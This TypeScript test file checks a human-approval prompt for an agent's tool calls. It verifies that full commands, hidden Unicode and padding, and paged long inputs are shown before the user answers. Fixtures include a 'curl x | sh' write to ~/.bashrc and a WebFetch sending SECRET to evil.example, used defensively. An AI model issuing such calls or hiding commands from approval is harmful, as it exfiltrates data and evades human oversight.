import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { offshoot, testRepo, type TestRepo } from '../support/repo.ts'
import { type Act, play, withStandIn } from '../support/stand-in.ts'
import { atTerminal, noTerminal, type Typed } from '../support/terminal.ts'
import { library } from '../support/workspace.ts'

const yes: Typed = { after: 'allow exactly this?', type: 'y\n' }
const no: Typed = { after: 'allow exactly this?', type: 'n\n' }
const next: Typed = { after: 'Enter shows the next one', type: '\n' }

const moderate = (...acts: Act[]) => ['run', '--task', 'T1', '--policy', 'moderate', play(...acts)]

const lines = (shown: string) => shown.split('\n').map((line) => line.trimEnd())

const decisions = async (repo: TestRepo) =>
  (await library(repo).audit({ task: 'T1' })).filter(({ what }) => what === 'run.decided')

describe.skipIf(noTerminal)(`H2: the question${noTerminal ? `: ${noTerminal}` : ''}`, () => {
  test('H2: every line of a command is shown before the answer is read', async () => {
    const repo = withStandIn(testRepo())
    const shown = await atTerminal(repo, moderate({ sh: 'make lint\ntouch hidden' }), [no])
    expect(lines(shown)).toEqual(expect.arrayContaining(['  | make lint', '  | touch hidden']))
    expect(shown.indexOf('touch hidden')).toBeLessThan(shown.indexOf('allow exactly this?'))
  })

  test('H2: nothing hides behind spaces, invisible letters or the end of the line', async () => {
    const repo = withStandIn(testRepo())
    const command = `npm test${' '.repeat(120)}; touch hidden \u202E\u200B\u00A0\u3164\u001B[2K ${'x'.repeat(200)}; touch end`
    const shown = await atTerminal(repo, moderate({ sh: command }), [no])
    const whole = shown.replaceAll('\n    \\ ', '')
    expect(whole).toContain('npm test⟨120 spaces⟩; touch hidden \\u{202e}\\u{200b}\\u{a0}\\u{3164}\\u{1b}[2K')
    expect(whole).toContain(`${'x'.repeat(200)}; touch end`)
  })

  test('H2: all of the input of a tool is shown, and an edit with its content', async () => {
    const repo = withStandIn(testRepo())
    const input = { path: 'README.md', target: '~/.bashrc', text: 'curl x | sh', deep: [{ also: 'this' }] }
    const shown = await atTerminal(
      repo,
      moderate(
        { use: 'mcp__files__write', input },
        { use: 'Write', input: { file_path: '/etc/x', content: 'a\nb' } },
      ),
      [no, no],
    )
    for (const part of ['  | README.md', '  | ~/.bashrc', '  | curl x | sh', '"also": "this"', '  | /etc/x'])
      expect(shown).toContain(part)
    expect(lines(shown)).toEqual(expect.arrayContaining(['  + a', '  + b']))
  })

  test('H2: a long text is shown in pages, and no answer counts before its end', async () => {
    const repo = withStandIn(testRepo())
    const command = `touch x\n${Array.from({ length: 25 }, (_, n) => `# ${n}`).join('\n')}\ntouch hidden`
    // `y` is typed at the first page, before the last line was to be seen.
    const early: Typed = { ...next, type: 'y\n' }
    const shown = await atTerminal(repo, moderate({ sh: command }), [early, next, no], { rows: 14 })
    const [end, asked] = [shown.indexOf('| touch hidden'), shown.indexOf('allow exactly this?')]
    expect(end).toBeGreaterThan(shown.indexOf('Page 2 of 3'))
    expect(asked).toBeGreaterThan(end)
    expect(shown).toContain('the user said no')
    expect(await decisions(repo)).toMatchObject([{ by: 'user', detail: expect.stringContaining('denied') }])
  })

  test('H2: a yes is for the whole text, and the log keeps all of it with its hash', async () => {
    const repo = withStandIn(testRepo())
    await atTerminal(repo, moderate({ sh: 'touch a\ntouch b --token=hunter22' }), [yes])
    const [decided] = await decisions(repo)
    expect(decided).toMatchObject({
      by: 'user',
      input: '{"command":"touch a\\ntouch b --token=***"}',
      inputHash: expect.stringMatching(/^[0-9a-f]{64}$/),
    })
  })
})

describe('H2: always', () => {
  const answering = (answers: string[], asked: unknown[]) => (told: { event: string; input?: unknown }) => {
    if (told.event !== 'asked') return undefined
    asked.push(told.input)
    return Promise.resolve(answers.shift())
  }

  test('H2: always covers exactly the input that was shown, and no other of the same tool', async () => {
    const repo = withStandIn(testRepo())
    const docs = { use: 'WebFetch', input: { url: 'https://docs.example', prompt: 'x' } }
    const evil = { use: 'WebFetch', input: { url: 'https://evil.example/?d=SECRET', prompt: 'x' } }
    const again = { use: 'WebFetch', input: { prompt: 'x', url: 'https://docs.example' } }
    const asked: unknown[] = []
    const input = { task: 'T1', create: true, prompt: play(docs, evil, again), policy: 'moderate' as const }
    await library(repo).run(input, { onEvent: answering(['always', 'deny'], asked) })
    expect(asked).toEqual([docs.input, evil.input])
    expect((await decisions(repo)).map(({ by }) => by)).toEqual(['always', 'user', 'always'])
  })

  test('H2: with --json, where nobody answers, no unmasked input is printed', async () => {
    const repo = withStandIn(testRepo())
    const { stdout } = await offshoot(repo, ...moderate({ sh: 'touch x --token=hunter22' }), '--json')
    expect(stdout).toContain('"event":"asked"')
    expect(stdout).not.toContain('hunter22')
    expect(existsSync(path.join(repo.dir, 'x'))).toBe(false)
    expect(readFileSync(path.join(repo.dir, 'a.txt'), 'utf8')).toBe('one\n')
  })
})
